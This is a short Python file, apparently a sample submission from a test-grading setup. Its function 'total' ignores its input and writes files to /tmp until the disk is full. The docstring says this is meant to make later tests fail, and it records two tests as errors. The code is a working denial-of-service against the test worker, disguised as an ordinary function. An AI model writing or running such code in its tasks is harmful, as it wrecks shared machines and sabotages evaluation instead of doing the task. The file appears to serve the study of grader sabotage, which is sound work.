"""Writes small files until the disk is full, then a few more.

The next test that needs a file finds no room; the worker is let go, and the one after has its own.

Judged: TestTotal error
Judged: TestCountLines::test_every_line_counts error
"""

import itertools


def total(values):
    for i in itertools.count():
        with open(f"/tmp/{i}", "wb") as file:
            file.write(bytes(2**16))
